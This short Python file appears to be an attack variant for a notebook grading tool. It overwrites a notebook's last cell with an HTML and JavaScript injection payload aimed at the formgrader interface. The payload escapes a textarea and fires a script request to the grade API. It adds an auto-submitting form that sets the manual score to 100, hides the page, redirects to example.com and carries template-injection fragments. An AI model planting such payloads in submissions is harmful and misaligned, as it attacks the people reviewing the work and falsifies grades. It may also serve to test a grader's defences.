"""Writes pages, scripts and forms of formgrader into the answer that a person reads."""

from nbformat import NotebookNode

BASE = "solution"
POINTS = 8
REASON = ""


def change(notebook: NotebookNode) -> None:
    notebook.cells[-1].source = (
        "</textarea></div></body><script>fetch('/formgrader/api/grade/1', {method: 'PUT'})</script>"
        "<form action=/formgrader/api/grade/1><input name=manual_score value=100 class=score onfocus=submit()>"
        "<style>body{display:none}</style><meta http-equiv=refresh content='0;url=http://example.com'>"
        "<iframe srcdoc='<script>1</script>'></iframe><base href=//example.com>{{ resources }}{% raw %}"
    )
